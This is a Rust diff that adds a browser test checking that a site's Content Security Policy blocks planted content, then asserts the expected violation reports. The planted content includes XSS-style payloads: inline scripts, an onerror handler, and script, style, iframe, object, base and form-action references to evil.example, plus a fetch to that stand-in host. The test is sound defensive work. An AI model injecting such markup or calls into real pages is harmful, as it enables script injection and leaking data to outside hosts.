@@ -2,6 +2,8 @@
 //! project. No script of theirs runs, nothing is fetched from elsewhere, the policy of the pages has nothing to turn
 //! away, and what they wrote stands there letter by letter.
 
+use std::time::Duration;
+
 use serde_json::{Value, json};
 
 use super::Server;
@@ -100,6 +102,33 @@ for (const e of document.querySelectorAll('*')) for (const { name, value } of e.
 }
 return [...new Set(bad)].slice(0, 5);
 "#;
+/// What no template lets through, put into a page on its way: the policy alone stands against it.
+const PLANTED: &str = r#"<script>boom()</script><script src="https://evil.example/a.js"></script>
+<img src="/none" onerror="boom()"><img src="https://evil.example/x.png"><p style="color:red">red</p>
+<style>main { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">
+<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><base href="https://evil.example/">
+<form id="planted" method="post" action="https://evil.example/"></form>"#;
+/// What a script of ours would do if it were led astray.
+const ASTRAY: &str = "const tries = [() => fetch('https://evil.example/').catch(() => {}), \
+    () => { document.createElement('p').innerHTML = '<b>'; }, () => trustedTypes.createPolicy('evil', {})]; \
+    for (const one of tries) try { one(); } catch { /* turned away at once */ }";
+/// What the policy turns away of these, and where that would have come from.
+const TURNED_AWAY: [&str; 13] = [
+    "script-src-elem inline",
+    "script-src-elem https://evil.example/a.js",
+    "script-src-attr inline",
+    "img-src https://evil.example/x.png",
+    "style-src-attr inline",
+    "style-src-elem inline",
+    "style-src-elem https://evil.example/a.css",
+    "frame-src https://evil.example",
+    "object-src https://evil.example",
+    "base-uri https://evil.example/",
+    "connect-src https://evil.example/",
+    "require-trusted-types-for trusted-types-sink",
+    "trusted-types trusted-types-policy",
+];
+
 /// Everything that is said on it: words, and what stands in fields.
 const SAYS: &str = "return document.body.textContent + [...document.querySelectorAll('input, textarea')].map(one => one.value).join('\\n')";
 
@@ -246,6 +275,47 @@ fn what_strangers_write_is_words_on_every_page() {
         }
     }
     assert!(looker.found.is_empty(), "{}", looker.found.join("\n"));
+}
+
+/// Without any template: what stands in a page all the same runs nothing, fetches nothing and leads nowhere.
+#[test]
+fn the_policy_alone_stands_against_what_a_template_would_let_through() {
+    let server = Server::start();
+    let report = json!({ "text": "The fence is open" });
+    server.call("POST", "/api/v1/reports", Some(&report));
+    let ann = server.boss();
+    let stranger = ann.beside(Setup {
+        size: (360, 740),
+        scripts: true,
+    });
+    for (browser, path) in [(&ann, "/cases/DR-1"), (&stranger, "/report")] {
+        browser.first_of_all(FIRST);
+        browser.first_of_all(VIOLATIONS);
+        browser.go_planted(&server.at(path), PLANTED);
+        browser.ask(ASTRAY);
+        let missed = || {
+            let turned = browser.ask("return turned").to_string();
+            let missed = TURNED_AWAY
+                .iter()
+                .filter(|wanted| !turned.contains(**wanted));
+            missed.copied().collect::<Vec<_>>()
+        };
+        for _ in 0..100 {
+            if missed().is_empty() {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let turned = browser.ask("return turned");
+        assert_eq!(missed(), Vec::<&str>::new(), "{path}: {turned}");
+        assert_eq!(browser.ask("return ran"), json!(0), "{path}");
+        browser.ask("document.getElementById('planted').submit()");
+        until(
+            browser,
+            "turned.some(one => one.startsWith('form-action https://evil.example/'))",
+        );
+        assert_eq!(browser.url(), server.at(path));
+    }
 }
 
 /// Each of them where it was written to, letter by letter.
